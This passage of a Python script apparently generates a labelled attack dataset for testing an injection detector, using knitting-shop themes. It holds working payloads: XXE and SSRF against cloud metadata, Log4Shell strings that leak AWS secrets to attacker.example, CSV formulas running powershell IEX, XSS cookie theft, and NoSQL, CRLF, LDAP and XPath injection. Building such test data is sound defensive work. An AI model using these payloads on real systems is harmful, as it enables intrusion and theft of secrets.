    ("pattern-upload-xxe-oob", "<?xml version=\"1.0\"?><!DOCTYPE p [<!ENTITY % d SYSTEM \"http://attacker.example/ev.dtd\"> %d;]><p>k2, p2</p>"),
    ("pattern-upload-xxe-ssrf", "<!DOCTYPE chart [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><chart><key>&m;</key></chart>"),
    ("pattern-upload-xxe-php", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><r>&s;</r>"),
    ("pattern-upload-xinclude", "<row xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></row>"),
    ("pattern-upload-billion-laughs", "<!DOCTYPE s [<!ENTITY a \"ssk\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><s>&d;</s>"),
    ("user-agent-log4shell", "${jndi:ldap://attacker.example:1389/a}"),
    ("note-log4shell", "Loved this hat! ${jndi:rmi://203.0.113.8:1099/obj}"),
    ("note-log4shell-nested", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}"),
    ("note-log4shell-env-leak", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("note-log4shell-default", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.2/z}"),
    ("profile-json-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("profile-json-proto-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("query-proto-pollution", "__proto__[shell]=/proc/self/exe&__proto__[argv0]=console.log(require('child_process').execSync('id').toString())//"),
    ("query-proto-pollution", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s"),
    ("csv-export-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A2,\"Download chart\")"),
    ("csv-export-formula", "=cmd|' /C calc'!A0"),
    ("csv-export-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-export-formula", "@SUM(1,1)*cmd|'/c notepad'!A1"),
    ("csv-export-formula", "-2+3+cmd|' /C calc'!D2"),
    ("csv-export-formula", "=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:C9),\"//a\")"),
    ("note-ssti-jinja+unicode-escape", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f'] }}"),
    ("note-ssti-jinja+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}"),
    ("note-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fx%7D"),
    ("plain-ssti", "{{7*'7'}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    ("plain-csv-formula", "=1+2;=cmd|'/c calc'!A1"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":true}}"),
]

NOSQLI = [
    ("login-json-operator", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("login-json-operator", "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login-query-operator", "username[$ne]=x&password[$ne]=x"),
    ("login-query-operator", "login=purl&pass[$regex]=^a.*"),
    ("search-json-where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-json-where", "{\"title\": \"cowl\", \"$where\": \"this.price < 0 || this.owner == 'admin'\"}"),
    ("search-string-js-injection", "cowl'; return true; var x='"),
    ("search-string-js-injection", "shawl' || '1'=='1"),
    ("search-regex-dos", "{\"name\": {\"$regex\": \"(a+)+$\"}}"),
    ("filter-json-in", "{\"owner\": {\"$in\": [\"admin\", \"root\"]}, \"private\": true}"),
    ("filter-json-exists", "{\"reset_token\": {\"$exists\": true}}"),
    ("filter-json-or", "{\"$or\": [{\"public\": true}, {\"public\": false}]}"),
    ("filter-json-expr", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(4000); return true; }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("row-json-operator", "{\"row\": \"Row 3: *k2, p2\", \"pattern_id\": {\"$gt\": 0}}"),
    ("color-query-operator", "colorway[$nin][]=Peony"),
    ("price-query-operator", "price[$lt]=0.01&sku[$regex]=.*"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"email\", \"password\"]}"),
    ("redis-lua-eval", "EVAL \"return redis.call('config','get','*')\" 0"),
    ("login-query-operator+urlenc", "username%5B%24ne%5D=1&password%5B%24ne%5D=1"),
    ("login-json-operator+unicode-escape", "{\"username\": \"admin\", \"password\": {\"\\u0024gt\": \"\"}}"),
    ("plain-ne", "{\"$ne\": null}"),
    ("plain-where", "'; return true; //"),
    ("plain-regex", "{\"$regex\": \".*\"}"),
]

CRLF = [
    ("log-note-forged-entry", "Finished my shawl!\n2024-05-02 10:14:07 INFO user=admin action=login status=success ip=10.0.0.1"),
    ("log-row-forged-entry", "Row 3: *k2, p2\r\n[INFO] password reset for admin approved by system"),
    ("log-search-forged-entry", "merino\n127.0.0.1 - - [02/May/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-username-ansi", "purlqueen\u001b[2J\u001b[1;1HAll good, no errors\u001b[0m"),
    ("log-filename-forged", "shawl.pdf\nAUDIT: file socks.pdf deleted by user kate"),
    ("header-redirect-set-cookie", "/patterns\r\nSet-Cookie: session=attacker-fixed-value; Path=/"),
    ("header-redirect-response-split", "/shop\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-filename-content-disposition", "Autumn_Leaves.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>hi</h1>"),
    ("header-lang-injection", "de\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("header-location-xss", "/cart\r\nRefresh: 0; url=https://attacker.example/"),
    ("header-cache-poison", "en\r\nX-Forwarded-Host: attacker.example"),
    ("header-redirect+urlenc", "/patterns%0d%0aSet-Cookie:%20admin=true"),
    ("header-redirect+double-urlenc", "/shop%250d%250aLocation:%20https://attacker.example"),
    ("header-redirect+unicode-newline", "/sizes\u560d\u560aSet-Cookie: x=1"),
    ("mail-subject-bcc", "Question about your cowl pattern\r\nBcc: everyone@list.attacker.example"),
    ("mail-from-header", "kate@example.com\nCc: victim1@example.org, victim2@example.org"),
    ("mail-name-header", "Knit Night\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example>Click to reset</a>"),
    ("mail-body-smtp-smuggle", "Thanks for the order!\r\n.\r\nMAIL FROM:<shop@knit.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: reset\r\n\r\nfake\r\n."),
    ("mail-reply-to", "Shop order #4821\nReply-To: support@attacker.example"),
    ("smtp-command-injection", "buyer@example.com>\r\nRCPT TO:<victim@example.org"),
    ("redis-cache-key-crlf", "pattern:42\r\nFLUSHALL\r\n"),
    ("memcached-key-crlf", "row_cache_3\r\nset admin 0 0 4\r\ntrue\r\n"),
    ("http-request-smuggle-header", "gzip\r\nTransfer-Encoding: chunked"),
    ("csv-log-line-break", "note ok\r\n=HYPERLINK(\"http://attacker.example\",\"x\"),admin,approved"),
    ("syslog-forged", "Rnd 5\n<13>May  2 10:00:00 knitserver sshd[99]: Accepted password for root from 10.0.0.1"),
    ("plain-crlf-header", "\r\nSet-Cookie: pwned=1"),
    ("plain-crlf-urlenc", "%0d%0aLocation: http://attacker.example"),
    ("plain-lf-log", "x\nERROR admin logged out"),
    ("plain-crlf-split", "%0d%0a%0d%0a<script>alert(1)</script>"),
]

LDAP_XPATH = [
    ("ldap-login-wildcard", "*"),
    ("ldap-login-bypass", "admin)(&)"),
    ("ldap-login-or", "*)(|(uid=*))"),
    ("ldap-login-bypass", "purlqueen)(|(password=*)"),
    ("ldap-search-attr-leak", "knit*)(userPassword=*"),
    ("ldap-search-blind", "kate)(description=a*"),
    ("ldap-group-bypass", "crafters)(|(memberOf=cn=admins,ou=groups,dc=knit,dc=example)"),
    ("ldap-search-nullbyte", "admin)(&))\u0000"),
    ("ldap-login-or+hex-escape", "\\2a)(uid=\\2a"),
    ("ldap-search-objectclass", "x)(objectClass=*"),
    ("xpath-login-bypass", "' or '1'='1"),
    ("xpath-login-bypass", "purl' or 1=1 or 'a'='a"),
    ("xpath-search-union-nodes", "shawl'] | //user/password | //*['"),
    ("xpath-search-blind", "cowl' and substring(//user[1]/password,1,1)='a"),
    ("xpath-search-count", "' or count(//user)>0 or '"),
    ("xpath-pattern-name-leak", "Row 3'] | /patterns/pattern/author/email | a['"),
    ("xpath-string-length", "x' or string-length(name(/*[1]))=8 and '1'='1"),
    ("xpath-doc-function", "') or doc('http://attacker.example/x.xml') or ('"),
    ("plain-ldap-wildcard", "*)(uid=*))(|(uid=*"),
    ("plain-xpath", "' or ''='"),
    ("plain-ldap-bypass", "admin)(|(objectClass=*)"),
]

# ---------------------------------------------------------------- templates
ROW_PREFIXES = ["Row 3: *k2, p2; rep from *", "Rnd 7: *k3, p1* around", "ch 3, sc in next 5 sts",
                "Row 12 (RS): k1, ssk, k to end", "Rnd 4: (sc 2, inc) x 6", "22 sts = 4\"/10 cm"]
SQLI_TAILS = ["' OR 'k'='k", "' UNION SELECT login, pw_hash FROM users-- ",
              "'; DROP TABLE projects;--", "' AND SLEEP(8)-- -", "') OR ('p'='p"]
XSS_TAILS = ["<img src=x onerror=alert(document.cookie)>", "<svg onload=alert(document.domain)>",
             "<script>new Image().src='//attacker.example/?c='+document.cookie</script>",
             "<iframe src=javascript:alert(1)>", "<details open ontoggle=alert(2)>"]
CMD_BASES = ["shawl", "socks", "beanie", "cardigan", "blanket", "tote"]
CMD_TAILS = [";id", "|id", "$(id)", "`id`", "&&id", "\nid", ";sleep 10", "|curl attacker.example"]
TRAV_DIRS = ["patterns", "charts", "pdf", "downloads/2024", "uploads/photos"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "proc/self/environ", "var/www/app/.env",
                "root/.bash_history"]
SSRF_HOSTS = ["127.0.0.1", "localhost", "169.254.169.254", "10.0.0.1", "192.168.0.10",
              "[::1]", "0.0.0.0"]
SSRF_PATHS = ["/admin", "/latest/meta-data/", "/internal/metrics", "/api/v1/secrets",
              "/actuator/env", "/debug/pprof/"]
SSTI_FORMS = ["{{ %s }}", "${%s}", "<%%= %s %%>", "#{%s}"]
SSTI_EXPRS = ["7*191", "'knit'*3", "1337*2", "'k2'+'p2'"]


def tpl_sqli(rng):
    return "row-boolean", rng.choice(ROW_PREFIXES) + rng.choice(SQLI_TAILS)


def tpl_xss(rng):
    return "note-html-injection", rng.choice(ROW_PREFIXES) + " " + rng.choice(XSS_TAILS)


def tpl_cmdi(rng):
    tail = rng.choice(CMD_TAILS)
    return "filename-separator", f"{rng.choice(CMD_BASES)}_{rng.choice(['EN', 'v2', 'US'])}.pdf{tail}"


def tpl_traversal(rng):
    depth = rng.randint(4, 8)
    path = f"{rng.choice(TRAV_DIRS)}/" + "../" * depth + rng.choice(TRAV_TARGETS)
    if rng.random() < 0.3:
        return "pdf-download-relative+urlenc", quote(path, safe="")
    return "pdf-download-relative", path


def tpl_ssrf(rng):
    port = rng.choice(["", ":8080", ":8000", ":9000", ":5000"])
    return "pattern-import-url", f"http://{rng.choice(SSRF_HOSTS)}{port}{rng.choice(SSRF_PATHS)}"


def tpl_code(rng):
    form = rng.choice(SSTI_FORMS)
    return "pattern-title-ssti-probe", f"{rng.choice(ROW_PREFIXES)} " + form % rng.choice(SSTI_EXPRS)


CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 10),
    ("xss", XSS, tpl_xss, 6),
    ("cmdi", CMDI, tpl_cmdi, 10),
    ("traversal", TRAVERSAL, tpl_traversal, 5),
    ("ssrf", SSRF, tpl_ssrf, 5),
    ("code", CODE, tpl_code, 1),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, None, 0),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def main():
    rng = random.Random(SEED)
    seen = set()
    records = []
    counts = {}
    for cat, literals, tpl, n_tpl in CATEGORIES:
        nlit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            records.append((cat, cls, v))
            nlit += 1
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 5000:
                raise SystemExit(f"template for {cat} exhausted")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            records.append((cat, cls, v))
            made += 1
        counts[cat] = (nlit + made, nlit)
    bench = Path(__file__).with_name("benign.jsonl")
    if bench.exists():
        with open(bench, encoding="utf-8") as fh:
            benign_vals = [json.loads(line)["value"] for line in fh]
        clash = [v for v in benign_vals if v in seen]
        if clash:
            raise SystemExit(f"values in both files: {clash[:3]}")
    out = []
    for i, (cat, cls, v) in enumerate(records, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, v
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                    "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, (n, nlit) in counts.items():
        total_lit += nlit
        print(f"{cat:12s} n={n:3d} literals={nlit:3d}")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    enc = sum(1 for o in out if "+" in o["class"])
    print(f"total={len(out)} literals={total_lit} plain={plain} encoded={enc}")


if __name__ == "__main__":
    main()
